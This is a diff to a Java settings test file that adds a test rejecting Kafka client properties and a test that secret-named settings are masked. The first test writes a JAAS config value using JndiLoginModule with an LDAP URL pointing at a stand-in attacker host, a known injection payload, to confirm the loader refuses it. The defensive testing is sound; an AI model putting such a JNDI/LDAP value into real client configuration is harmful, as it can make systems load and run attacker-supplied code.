@@ -157,12 +157,52 @@ class SettingsTest {
         .hasMessageNotContaining("canary");
   }
 
+  /** A client's own properties may name a login module, which may run what a directory says. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "sasl.jaas.config",
+        "millrace.kafka.sasl.jaas.config",
+        "millrace.kafka.properties.sasl.jaas.config",
+        "millrace.kafka.jmx-url"
+      })
+  void propertiesOfKafkasClientsAreNoSettings(String key) throws IOException {
+    Path file =
+        Files.writeString(
+            folder.resolve("millrace.properties"),
+            key
+                + " = com.sun.security.auth.module.JndiLoginModule required"
+                + " user.provider.url=\"ldap://evil.test/\";\n");
+
+    assertThatThrownBy(() -> Settings.of(Map.of(Settings.FILE_VARIABLE, file.toString())))
+        .isInstanceOf(InvalidSettings.class)
+        .hasMessageContaining(key)
+        .hasMessageNotContaining("JndiLoginModule");
+  }
+
   @Test
   void aMissingFileIsAnError() {
     assertThatThrownBy(
             () -> Settings.of(Map.of(Settings.FILE_VARIABLE, folder.resolve("none").toString())))
         .isInstanceOf(InvalidSettings.class)
         .hasMessageContaining("cannot read");
+  }
+
+  @Test
+  void whatIsNamedLikeASecretIsMaskedAndNeverRepeated() {
+    Map<String, String> environment = new HashMap<>();
+    for (Setting setting : Setting.values()) {
+      if (setting.key().matches(".*(password|token|secret|users|credential).*")) {
+        environment.put(setting.variable(), "canary-" + setting.key());
+      }
+    }
+    Settings settings = Settings.of(environment);
+
+    assertThat(environment).hasSizeGreaterThanOrEqualTo(5);
+    assertThat(settings.table()).doesNotContain("canary");
+    assertThat(settings).asString().doesNotContain("canary");
+    assertThat(Arrays.stream(Setting.values()).filter(Setting::isSecret))
+        .allSatisfy(setting -> assertThat(settings.text(setting)).startsWith("canary"));
   }
 
   @Test
